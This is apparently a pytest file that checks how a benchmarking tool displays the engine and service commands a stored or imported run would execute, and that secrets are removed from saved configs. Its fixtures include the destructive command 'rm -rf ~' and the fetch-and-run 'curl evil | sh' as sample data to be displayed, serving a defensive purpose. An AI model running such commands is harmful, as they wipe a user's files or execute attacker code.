"""bench.config.stored_engine_command: what "Run again" of a stored (maybe imported) run would execute here, shown
before anything starts: the engine's command, every deployment instance's, every service's."""
from bench.config import stored_engine_command


def test_single_engine_command_and_none():
    assert stored_engine_command({"engine": {"kind": "vllm", "engine_cmd": ["/bin/sh", "-c", "touch /tmp/x"]}}) \
        == "/bin/sh -c 'touch /tmp/x'"
    assert stored_engine_command({"engine": {"kind": "vllm", "extra_args": ["--enforce-eager"]}}) \
        == "<vllm as detected here> ... --enforce-eager"
    assert stored_engine_command({"engine": {"kind": "sim"}}) is None
    assert stored_engine_command({}) is None


def test_every_instance_and_service_of_a_deployment_is_shown():
    cfg = {"engine": {"kind": "sim"},
           "instances": [{"name": "a", "engine": {"kind": "sim"}},
                         {"name": "b", "engine": {"kind": "vllm", "engine_cmd": ["/x/py", "-m", "vllm"],
                                                  "extra_args": ["--foo"]}}],
           "services": [{"name": "tts", "engine": {"kind": "custom", "engine_cmd": ["/bin/sh", "-c", "rm -rf ~"]}}]}
    assert stored_engine_command(cfg).splitlines() == ["b: /x/py -m vllm ... --foo", "tts: /bin/sh -c 'rm -rf ~'"]
    # one sim instance plus a service: the service alone is what would run
    cfg = {"engine": {"kind": "sim"}, "instances": [{"name": "llm", "engine": {"kind": "sim"}}],
           "services": [{"name": "asr", "engine": {"kind": "custom", "engine_cmd": ["./asr", "{port}"]}}]}
    assert stored_engine_command(cfg) == "asr: ./asr '{port}'"


def test_an_engine_without_instances_is_shown_beside_services():
    cfg = {"engine": {"kind": "vllm", "engine_cmd": ["sh", "-c", "curl evil | sh"]},
           "services": [{"name": "tts", "engine": {"kind": "custom", "engine_cmd": ["tts-server", "--port", "{port}"]}}]}
    assert stored_engine_command(cfg).splitlines() == ["engine: sh -c 'curl evil | sh'",
                                                       "tts: tts-server --port '{port}'"]


def test_services_must_be_custom_with_a_command_and_their_secrets_are_not_stored():
    import pytest
    from pydantic import ValidationError

    from bench.config import DeployedInstance, RunConfig
    from bench.runs import stored_config
    from engines.spec import EngineSpec

    llm = EngineSpec(kind="sim", model="Qwen/Qwen3-0.6B", sim_gpu="H100-SXM-80GB")
    with pytest.raises(ValidationError, match="a service is a custom engine with a command"):
        RunConfig(engine=llm, levels=[1], services=[DeployedInstance(name="s", weight=0, engine=llm)])
    svc = DeployedInstance(name="tts", weight=0, engine=EngineSpec(
        kind="custom", model="m", engine_cmd=["tts", "--port", "{port}", "--hf-token=SECRET3", "--api-key", "SECRET2"]))
    with pytest.raises(ValidationError, match="names must be unique: engine"):
        RunConfig(engine=llm, levels=[1], services=[svc.model_copy(update={"name": "engine"})])
    doc = stored_config(RunConfig(engine=llm, levels=[1], services=[svc]))
    argv = doc["services"][0]["engine"]["engine_cmd"]
    assert "SECRET2" not in str(doc) and "SECRET3" not in str(doc) and argv[:3] == ["tts", "--port", "{port}"]
